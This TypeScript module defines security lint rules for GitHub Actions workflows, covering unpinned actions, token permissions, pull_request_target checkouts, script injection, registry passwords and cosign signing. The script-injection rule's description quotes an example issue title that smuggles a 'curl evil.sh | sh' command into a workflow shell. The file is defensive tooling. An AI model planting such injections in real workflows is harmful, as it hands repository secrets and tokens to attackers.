/**
 * Rules for GitHub Actions workflows (`gha-…`): what the GitHub security hardening guide and the
 * OWASP CI/CD Top 10 warn about, on the parts of a workflow that carry it.
 */
import { isScalar, Scalar } from 'yaml';
import { Fix, Rule } from '../model';
import { eolOf } from '../text';
import { basename, programWords, splitShell, ShellWord } from '../dockerfile/shell';
import { PINS } from '../ci/pins';
import { JobInfo, StepInfo, WorkflowModel, mappedRange, nodeRange, pairOf, scalarAt, scalarSource, stringOf } from './model';
import { Text, english, fixTitle, frag, msg } from '../l10n/text';

export type WorkflowRule = Rule<WorkflowModel>;

const FULL_SHA = /^[0-9a-f]{40}$/;
const DOCKER_DIGEST = /@sha256:[0-9a-f]{64}$/;

/** Every `uses:` of the workflow: job-level (reusable workflows) and step-level. */
function* usesNodes(model: WorkflowModel): Generator<Scalar> {
  for (const job of model.jobs) {
    if (job.uses) yield job.uses;
    for (const step of job.steps) if (step.uses) yield step.uses;
  }
}

function* allSteps(model: WorkflowModel): Generator<[JobInfo, StepInfo]> {
  for (const job of model.jobs) for (const step of job.steps) yield [job, step];
}

/** Why a `uses:` value is not pinned to an immutable version, or undefined when it is. */
export function unpinnedReason(value: string): string | undefined {
  const t = unpinnedReasonText(value);
  return t && english(t);
}

/** `unpinnedReason` as a template, for other locales. */
function unpinnedReasonText(value: string): Text | undefined {
  if (value.startsWith('./') || value.startsWith('.\\')) return undefined;
  if (value.startsWith('docker://')) return DOCKER_DIGEST.test(value) ? undefined : frag('github.rules.image-not-pinned', 'a container image not pinned by digest (@sha256:…)');
  const at = value.lastIndexOf('@');
  if (at < 0) return frag('github.rules.no-version', 'no version at all');
  return FULL_SHA.test(value.slice(at + 1)) ? undefined : frag('github.rules.movable-ref', 'the ref "{ref}", which can be moved to other code', { ref: value.slice(at + 1) });
}

function pinFix(model: WorkflowModel, node: Scalar, value: string): Fix[] | undefined {
  if (node.type !== Scalar.PLAIN || !node.range) return undefined;
  const at = value.lastIndexOf('@');
  if (at < 0) return undefined;
  const action = value.slice(0, at);
  const ref = value.slice(at + 1);
  const pin = Object.values(PINS).find((p) => p.action === action);
  if (!pin || pin.version.split('.')[0] !== ref.split('.')[0]) return undefined;
  const range = nodeRange(model, node);
  const rest = model.lines.lineText(range.end.line).slice(range.end.character);
  const comment = /^\s*$/.test(rest) ? ` # ${pin.version}` : '';
  return [{
    kind: 'quickfix',
    // The pinned release may differ from what the tag points at today.
    safe: false,
    edits: [{ range, newText: `${pin.action}@${pin.sha}${comment}` }],
    ...fixTitle('github.rules.pin-to', 'Pin to {action}@{sha}… ({version})', { action: pin.action, sha: pin.sha.slice(0, 7), version: pin.version }),
  }];
}

export const unpinnedAction: WorkflowRule = {
  id: 'gha-unpinned-action',
  title: 'Action not pinned to a commit SHA',
  severity: 'medium',
  appliesTo: 'github-workflow',
  references: ['CICD-SEC-3'],
  description: 'A tag or branch (`@v4`, `@main`) can be moved to other code by whoever controls the action\'s repository, or by an attacker who takes it over: the workflow then runs that code with its token and secrets. Only a full commit SHA (or a container digest) is immutable. Local actions (`./…`) are part of the repository.',
  remediation: 'Pin every third-party action to the full 40-character commit SHA of a release and write the release in a comment (`uses: actions/checkout@11bd719… # v4.2.2`); let Dependabot or Renovate update the pins.',
  check(model, report) {
    for (const node of usesNodes(model)) {
      const value = stringOf(node);
      if (value === undefined) continue;
      const why = unpinnedReasonText(value.trim());
      if (!why) continue;
      report({ range: nodeRange(model, node), fixes: pinFix(model, node, value.trim()), ...msg('github.rules.is-not-pinned-to', '"{value}" is not pinned to a commit SHA: {why}.', { value, why }) });
    }
  },
};

export const permissionsWriteAll: WorkflowRule = {
  id: 'gha-permissions-write-all',
  title: 'permissions: write-all',
  severity: 'high',
  appliesTo: 'github-workflow',
  references: ['CICD-SEC-5'],
  description: 'write-all gives the GITHUB_TOKEN write access to every scope (contents, packages, pull requests, actions…): any step, or any action it runs, can push code, publish packages or change the repository.',
  remediation: 'Grant only the scopes the job uses, e.g. `permissions: { contents: read }`, and add the write scopes a job needs on that job.',
  check(model, report) {
    const pairs = [model.permissions, ...model.jobs.map((j) => j.permissions)];
    for (const pair of pairs) {
      const v = pair?.value;
      if (!isScalar(v) || v.value !== 'write-all' || !v.range) continue;
      report({
        range: nodeRange(model, v),
        fixes: [{ kind: 'quickfix', safe: false, edits: [{ range: nodeRange(model, v), newText: '{ contents: read }' }], ...fixTitle('github.rules.replace-with-contents-read', 'Replace with { contents: read }') }],
        ...msg('github.rules.permissions-write-all-grants', 'permissions: write-all grants the token every write scope: list the scopes the job needs instead.'),
      });
    }
  },
};

export const permissionsMissing: WorkflowRule = {
  id: 'gha-permissions-missing',
  title: 'Job without permissions',
  severity: 'medium',
  appliesTo: 'github-workflow',
  references: ['CICD-SEC-5'],
  description: 'Without a `permissions` key the GITHUB_TOKEN gets the repository\'s default scopes, which on many repositories (and on every repository created before 2023) is read and write on everything.',
  remediation: 'Set `permissions: {}` or `permissions: { contents: read }` at the top of the workflow and grant the scopes a job needs on that job.',
  check(model, report) {
    if (model.permissions || !model.jobsKey) return;
    const jobsLine = nodeRange(model, model.jobsKey).start;
    const fixes: Fix[] | undefined = jobsLine.character === 0
      ? [{
        kind: 'quickfix',
        safe: false,
        edits: [{ range: { start: jobsLine, end: jobsLine }, newText: `permissions: { contents: read }${eolOf(model.text)}` }],
        ...fixTitle('github.rules.add-permissions-contents-read', 'Add permissions: { contents: read } to the workflow'),
      }]
      : undefined;
    for (const job of model.jobs) {
      if (job.permissions) continue;
      report({ range: nodeRange(model, job.key), fixes, ...msg('github.rules.job-has-no-permissions', 'Job "{job}" has no permissions and the workflow sets none: the token gets the repository\'s default scopes.', { job: job.id }) });
    }
  },
};

/** Expressions that name the pull request's (or the triggering run's) own code. */
const PR_HEAD = /\bgithub\s*\.\s*(?:event\s*\.\s*pull_request\s*\.\s*(?:head\s*\.\s*(?:sha|ref)|merge_commit_sha)|head_ref|event\s*\.\s*workflow_run\s*\.\s*head_(?:sha|branch)|event\s*\.\s*number)\b/;

export const prTargetCheckout: WorkflowRule = {
  id: 'gha-pr-target-checkout',
  title: 'pull_request_target checks out the pull request\'s code',
  severity: 'critical',
  appliesTo: 'github-workflow',
  references: ['CICD-SEC-4'],
  description: 'pull_request_target (and workflow_run) runs with the base repository\'s secrets and a write token, for pull requests from any fork. Checking out the pull request\'s head (with actions/checkout, `gh pr checkout` or `git fetch … refs/pull/…`) and running anything from it (a build, a test, an install script) hands those secrets to the author of the pull request.',
  remediation: 'Use the pull_request trigger for code from pull requests; if a privileged step is needed, run it in a separate workflow on workflow_run that never executes the pull request\'s files.',
  check(model, report) {
    if (!model.triggers.has('pull_request_target') && !model.triggers.has('workflow_run')) return;
    for (const [, step] of allSteps(model)) {
      const uses = stringOf(step.uses);
      if (!uses || !/^actions\/checkout@/.test(uses)) continue;
      const ref = scalarAt(step.with, 'ref');
      const value = stringOf(ref);
      if (!ref || !value) continue;
      const src = scalarSource(model, ref);
      const m = PR_HEAD.exec(src.text);
      if (!m) continue;
      report({ range: nodeRange(model, ref), ...msg('github.rules.a-workflow-checks-out', 'A {trigger} workflow checks out the pull request\'s code ({ref}): it runs with the base repository\'s secrets.', { trigger: triggerOf(model), ref: m[0].replace(/\s+/g, '') }) });
    }
    // The same checkout done by hand in a script: `gh pr checkout`, `git fetch origin refs/pull/…`,
    // `git checkout ${{ github.event.pull_request.head.sha }}`.
    for (const { words } of commandsOf(model)) {
      const program = programWords({ words });
      if (program.length < 2) continue;
      const tool = basename(program[0].text);
      if (tool === 'gh' && program[1].text === 'pr' && program[2]?.text === 'checkout') {
        report({ range: model.lines.rangeOf(program[0].start, program[2].end), ...msg('github.rules.a-workflow-checks-out-2', 'A {trigger} workflow checks out the pull request\'s code (gh pr checkout): it runs with the base repository\'s secrets.', { trigger: triggerOf(model) }) });
        continue;
      }
      if (tool !== 'git' || !GIT_CHECKOUTS.has(program[1].text)) continue;
      const from = program[2]?.start ?? program[1].end;
      const to = program[program.length - 1].end;
      const text = model.text.slice(from, to);
      HEAD_IN_SCRIPT.lastIndex = 0;
      for (let m = HEAD_IN_SCRIPT.exec(text); m; m = HEAD_IN_SCRIPT.exec(text)) {
        if (m[0].startsWith('${{') && !PR_HEAD.test(m[0])) continue;
        report({ range: model.lines.rangeOf(from + m.index, from + m.index + m[0].length), ...msg('github.rules.a-workflow-fetches-the', 'A {trigger} workflow fetches the pull request\'s code (git {command}): it runs with the base repository\'s secrets.', { trigger: triggerOf(model), command: program[1].text }) });
        break;
      }
    }
  },
};

const GIT_CHECKOUTS = new Set(['checkout', 'switch', 'fetch', 'pull', 'reset']);
/** An expression, or a `refs/pull/N/head|merge` / `pull/N/head` refspec, in a git command. */
const HEAD_IN_SCRIPT = /\$\{\{[^}]*\}\}|\b(?:refs\/)?pull\/[^\s'"/]+\/(?:head|merge)\b/g;

function triggerOf(model: WorkflowModel): string {
  return model.triggers.has('pull_request_target') ? 'pull_request_target' : 'workflow_run';
}

const UNTRUSTED_LAST = new Set([
  'body', 'title', 'message', 'name', 'email', 'label', 'ref', 'head_ref', 'default_branch', 'page_name', 'head_branch', 'display_title',
  // Objects whose JSON holds the fields above.
  'issue', 'pull_request', 'comment', 'review', 'review_comment', 'discussion', 'head_commit', 'commits', 'pages', 'workflow_run', 'head', 'author', 'committer', '*',
]);
/** Parts of the event the repository's owners control. */
const TRUSTED_FIRST = new Set(['repository', 'organization', 'enterprise', 'installation', 'inputs', 'sender', 'action']);

const CONTEXT = /\bgithub\s*(?:\.\s*([A-Za-z_][\w-]*)|\[\s*'([^']*)'\s*\])((?:\s*\.\s*(?:[A-Za-z_*][\w-]*|\*)|\s*\[[^\]]*\])*)/g;

/** The first attacker-controlled context an expression reads, or undefined. */
export function untrustedContext(expression: string): string | undefined {
  CONTEXT.lastIndex = 0;
  for (let m = CONTEXT.exec(expression); m; m = CONTEXT.exec(expression)) {
    const top = m[1] ?? m[2];
    if (top === 'head_ref') return 'github.head_ref';
    if (top !== 'event') continue;
    const segments = m[3].split(/\s*\.\s*|\s*\[\s*|\s*\]\s*/).map((s) => s.replace(/^['"]|['"]$/g, '')).filter((s) => s !== '').map((s) => (/^\d+$/.test(s) ? '*' : s));
    const path = `github.event${segments.map((s) => `.${s}`).join('')}`;
    if (segments.length === 0) return path;
    if (TRUSTED_FIRST.has(segments[0])) continue;
    if (UNTRUSTED_LAST.has(segments[segments.length - 1])) return path;
  }
  return undefined;
}

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;

/** The scripts of a step that a shell (or github-script's JavaScript) runs. */
function scriptsOf(step: StepInfo): Scalar[] {
  const out: Scalar[] = [];
  if (step.run) out.push(step.run);
  const uses = stringOf(step.uses);
  if (uses && /^actions\/github-script@/.test(uses)) {
    const script = scalarAt(step.with, 'script');
    if (script) out.push(script);
  }
  return out;
}

const ENV_REF = /^\s*env\s*\.\s*([A-Za-z_][\w-]*)\s*$/;

/**
 * The untrusted context an `env.NAME` expression stands for in a step: the step's own `env`
 * wins over the job's, the job's over the workflow's (as GitHub resolves them).
 */
function untrustedEnv(model: WorkflowModel, job: JobInfo, step: StepInfo, name: string): string | undefined {
  for (const env of [step.env, job.env, model.env]) {
    const value = pairOf(env, name)?.value;
    if (value === undefined) continue;
    return isScalar(value) && typeof value.value === 'string' ? untrustedContextIn(value.value) : undefined;
  }
  return undefined;
}

/** The first untrusted context of any expression in a text. */
function untrustedContextIn(text: string): string | undefined {
  EXPRESSION_IN.lastIndex = 0;
  for (let m = EXPRESSION_IN.exec(text); m; m = EXPRESSION_IN.exec(text)) {
    const c = untrustedContext(m[1]);
    if (c) return c;
  }
  return undefined;
}
const EXPRESSION_IN = /\$\{\{([\s\S]*?)\}\}/g;

export const scriptInjection: WorkflowRule = {
  id: 'gha-script-injection',
  title: 'Untrusted input expanded in a script',
  severity: 'high',
  appliesTo: 'github-workflow',
  references: ['CICD-SEC-4'],
  description: 'GitHub substitutes `${{ … }}` into the script text before the shell runs it. An issue or pull request title, a branch name, a commit message or a comment is written by whoever opens it: a title like `a"; curl evil.sh | sh; "` becomes shell code that runs with the workflow\'s token and secrets.',
  remediation: 'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.issue.title }} }` then `echo "$TITLE"` (not `${{ env.TITLE }}`, which is substituted into the text the same way). No fix is offered: the variable changes how the value is quoted, which only you can check.',
  check(model, report) {
    for (const [job, step] of allSteps(model)) {
      for (const script of scriptsOf(step)) {
        const src = scalarSource(model, script);
        EXPRESSION.lastIndex = 0;
        for (let m = EXPRESSION.exec(src.text); m; m = EXPRESSION.exec(src.text)) {
          const range = mappedRange(model, src, m.index, m.index + m[0].length);
          const context = untrustedContext(m[1]);
          if (context) {
            report({ range, ...msg('github.rules.is-written-by-whoever', '{context} is written by whoever triggers the workflow and is expanded into the script: pass it through env: and quote the variable.', { context }) });
            continue;
          }
          // `${{ env.TITLE }}` is substituted into the text just the same: only "$TITLE" is safe.
          const name = ENV_REF.exec(m[1])?.[1];
          const via = name ? untrustedEnv(model, job, step, name) : undefined;
          if (via) report({ range, ...msg('github.rules.env-holds-and-env', 'env.{name} holds {via}, and ${{ env.{name} }} is expanded into the script: use "${name}" instead.', { name: name as string, via }) });
        }
      }
    }
  },
};

const LOGIN_TOOLS = new Set(['docker', 'podman', 'nerdctl', 'buildah', 'skopeo', 'oras', 'crane', 'cosign']);

/** The `-p VALUE` / `--password VALUE` / `--password=VALUE` words of a registry login, if any. */
function passwordArgument(words: ShellWord[]): [ShellWord, ShellWord] | undefined {
  const program = programWords({ words });
  if (program.length < 2) return undefined;
  const tool = basename(program[0].text);
  let i = 1;
  if (tool === 'helm') {
    if (program[1].text !== 'registry' || program[2]?.text !== 'login') return undefined;
    i = 3;
  } else if (LOGIN_TOOLS.has(tool) && (program[1].text === 'login' || (tool === 'crane' && program[1].text === 'auth' && program[2]?.text === 'login'))) {
    i = tool === 'crane' ? 3 : 2;
  } else {
    return undefined;
  }
  for (; i < program.length; i++) {
    const w = program[i];
    if (w.text === '-p' || w.text === '--password') return program[i + 1] ? [w, program[i + 1]] : undefined;
    if (/^--password=./.test(w.text) || /^-p./.test(w.text)) return [w, w];
    if (w.text === '--') return undefined;
  }
  return undefined;
}

/** The simple commands of every `run:` script, split once per model for the rules that read them. */
function commandsOf(model: WorkflowModel): ReadonlyArray<{ words: ShellWord[] }> {
  if (model.memo.commands) return model.memo.commands;
  const out: Array<{ words: ShellWord[] }> = [];
  for (const [, step] of allSteps(model)) {
    if (!step.run) continue;
    try {
      for (const c of splitShell(scalarSource(model, step.run)).commands) out.push({ words: c.words });
    } catch {
      // A script the splitter cannot read gives no commands.
    }
  }
  return (model.memo.commands = out);
}

export const dockerLoginPassword: WorkflowRule = {
  id: 'gha-docker-login-password',
  title: 'Registry password on the command line',
  severity: 'high',
  appliesTo: 'github-workflow',
  references: ['CICD-SEC-6'],
  description: 'A password given with `-p`/`--password` is visible to every process on the runner (`ps`), lands in shell traces (`set -x`) and is stored in the Docker config in clear. The log masks known secrets, but not a value derived from one.',
  remediation: 'Pipe it in: `echo "$REGISTRY_PASSWORD" | docker login -u "$USER" --password-stdin registry.example.com`, or use docker/login-action.',
  check(model, report) {
    for (const { words } of commandsOf(model)) {
      const hit = passwordArgument(words);
      if (!hit) continue;
      report({ range: model.lines.rangeOf(hit[0].start, hit[1].end), ...msg('github.rules.puts-the-registry-password', '{option} puts the registry password on the command line: pipe it to --password-stdin.', { option: hit[0].text.startsWith('--') ? '--password' : '-p' }) });
    }
  },
};

/** cosign sign options that take a value as the next word. */
const COSIGN_VALUES = new Set([
  '-a', '--annotations', '--key', '--certificate', '--certificate-chain', '--output-signature', '--output-certificate',
  '--output-payload', '--payload', '--registry-referrers-mode', '--fulcio-url', '--rekor-url', '--oidc-issuer',
  '--oidc-client-id', '--oidc-client-secret-file', '--oidc-provider', '--oidc-redirect-url', '--identity-token', '--sk',
  '--slot', '--attachment', '--timeout', '-t', '--signing-config', '--trusted-root', '--bundle',
]);

/** Image arguments of `cosign sign` that name a tag rather than a digest. */
function signedTags(words: ShellWord[]): ShellWord[] {
  const program = programWords({ words });
  if (program.length < 3 || basename(program[0].text) !== 'cosign' || program[1].text !== 'sign') return [];
  const out: ShellWord[] = [];
  for (let i = 2; i < program.length; i++) {
    const w = program[i].text;
    if (w.startsWith('-')) {
      if (!w.includes('=') && COSIGN_VALUES.has(w)) i++;
      continue;
    }
    if (w.includes('@')) continue;
    // A bare variable ($IMAGE) may hold a digest; a tag written out, or a tags output, does not.
    const lastPart = w.slice(w.lastIndexOf('/') + 1);
    if (/:/.test(lastPart) || /tags?\b/i.test(w)) out.push(program[i]);
  }
  return out;
}

export const signByTag: WorkflowRule = {
  id: 'gha-sign-by-tag',
  title: 'Image signed by tag instead of digest',
  severity: 'medium',
  appliesTo: 'github-workflow',
  references: ['CICD-SEC-9'],
  description: 'cosign resolves a tag when it signs: if the tag was pushed again in between (by a concurrent run or by someone else), the signature vouches for an image this workflow never built. A digest names exactly the image that was pushed.',
  remediation: 'Sign `image@${{ steps.build.outputs.digest }}` (docker/build-push-action\'s digest output) through an environment variable: `cosign sign --yes "$IMAGE@$DIGEST"`.',
  check(model, report) {
    for (const { words } of commandsOf(model)) {
      for (const w of signedTags(words)) {
        report({ range: model.lines.rangeOf(w.start, w.end), ...msg('github.rules.cosign-signs-by-tag', 'cosign signs "{image}" by tag: sign the digest the build pushed (image@sha256:…).', { image: w.text }) });
      }
    }
  },
};

export const workflowSyntax: WorkflowRule = {
  id: 'gha-yaml-syntax',
  title: 'Workflow YAML does not parse',
  severity: 'high',
  appliesTo: 'github-workflow',
  references: [],
  description: 'GitHub refuses a workflow file that is not valid YAML (the run fails with "Invalid workflow file"), and none of its jobs is checked until it parses.',
  remediation: 'Fix the YAML at the reported position: indentation, an unclosed quote or bracket, a duplicate key, a tab used for indentation.',
  check(model, report) {
    for (const p of model.problems) {
      report({ range: model.lines.rangeOf(p.start, p.end), ...msg('github.rules.yaml-error', 'YAML error: {problem} (the workflow is not checked further).', { problem: p.message }) });
    }
  },
};

/** Every GitHub workflow rule, in the order the docs list them. */
export const GITHUB_RULES: readonly WorkflowRule[] = [
  workflowSyntax,
  unpinnedAction,
  permissionsWriteAll,
  permissionsMissing,
  prTargetCheckout,
  scriptInjection,
  dockerLoginPassword,
  signByTag,
];
